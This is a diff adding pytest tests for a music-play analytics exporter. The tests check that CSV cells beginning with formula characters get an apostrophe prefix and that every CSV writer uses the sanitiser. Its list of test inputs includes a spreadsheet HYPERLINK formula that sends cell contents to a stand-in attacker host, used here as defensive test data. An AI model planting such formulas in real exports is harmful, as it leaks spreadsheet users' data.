@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import re
 import sys
 from datetime import date
 from pathlib import Path
@@ -15,11 +17,13 @@ import pyarrow.parquet as pq
 import pytest
 from sqlalchemy import Engine
 
+from daemon.analytics.csvcells import formula_safe, formula_safe_frame
 from daemon.analytics.export import COLUMNS, SCHEMA, arrow_schema, export
 from daemon.analytics.report import AnalyticsSettings
+from daemon.scrobble import Scrobble
 from daemon.store import matches
 from daemon.store.engine import write
-from tests.test_analytics import PLAYS, fill
+from tests.test_analytics import PLAYS, fill, utc
 
 SETTINGS = AnalyticsSettings("alice", ZoneInfo("Europe/Berlin"))
 ROOT = Path(__file__).resolve().parent.parent
@@ -155,3 +159,52 @@ def test_parquet_without_pyarrow_is_one_clear_error(engine: Engine, tmp_path: Pa
     with pytest.raises(PlexfmError, match="needs pyarrow"):
         export(engine, SETTINGS, tmp_path / "plays.parquet", "parquet")
     assert not list(tmp_path.glob("*plays.parquet*"))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+2", "@SUM(1)",
+            "\tTAB", "\rCR", "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]
+
+
+def test_csv_text_that_a_spreadsheet_would_run_gets_an_apostrophe(engine: Engine,
+                                                                   tmp_path: Path) -> None:
+    plays = [Scrobble(utc("2022-03-01T12:00:00") + i, text, text, text)
+             for i, text in enumerate(FORMULAS)]
+    plays.append(Scrobble(utc("2022-03-02T12:00:00"), "Plain", "it's -fine\r=HYPERLINK(1)",
+                          "A=B\n@SUM(1)"))
+    fill(engine, plays)
+    export(engine, SETTINGS, tmp_path / "plays.csv", "csv")
+    with (tmp_path / "plays.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["artist"] for row in rows] == ["'" + text for text in FORMULAS] + ["Plain"]
+    for row in rows:
+        for column in ("title", "album"):
+            assert row[column] == row["artist"] or row["artist"] == "Plain"
+        for column, kind, _desc in SCHEMA:
+            if kind == "int64" and row[column]:
+                int(row[column])  # numbers stay numbers
+    assert rows[-1]["title"] == "it's -fine\r=HYPERLINK(1)"  # one cell: a CR cannot end the row
+    assert rows[-1]["album"] == "A=B\n@SUM(1)"
+    ndjson = export(engine, SETTINGS, tmp_path / "plays.ndjson", "ndjson")  # exact there
+    lines = (tmp_path / "plays.ndjson").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["artist"] for line in lines][: ndjson.rows - 1] == FORMULAS
+
+
+def test_the_rule_touches_text_only() -> None:
+    frame = pd.DataFrame({"n": [-5, 3, -1], "f": [-1.5, 2.0, -0.25],
+                          "t": ["-5", "@x", None], "k": pd.array([-7, None, 2], dtype="Int64")})
+    out = formula_safe_frame(frame)
+    assert out["n"].tolist() == [-5, 3, -1]
+    assert out["f"].tolist() == [-1.5, 2.0, -0.25]
+    assert out["k"].tolist()[0] == -7
+    assert out["t"].tolist()[:2] == ["'-5", "'@x"]
+    assert out["t"].isna().tolist()[2]
+    assert [formula_safe(v) for v in (-5, -1.5, "-5", "=1", "a=1", None, True)] == \
+        [-5, -1.5, "'-5", "'=1", "a=1", None, True]
+
+
+def test_every_csv_writer_uses_the_one_rule() -> None:
+    writers = [path for path in (ROOT / "daemon").rglob("*.py")
+               if re.search(r"csv\.writer|\.to_csv\(|DictWriter", path.read_text("utf-8"))]
+    assert writers  # the export and the charts
+    for path in writers:
+        assert "formula_safe" in path.read_text("utf-8"), path
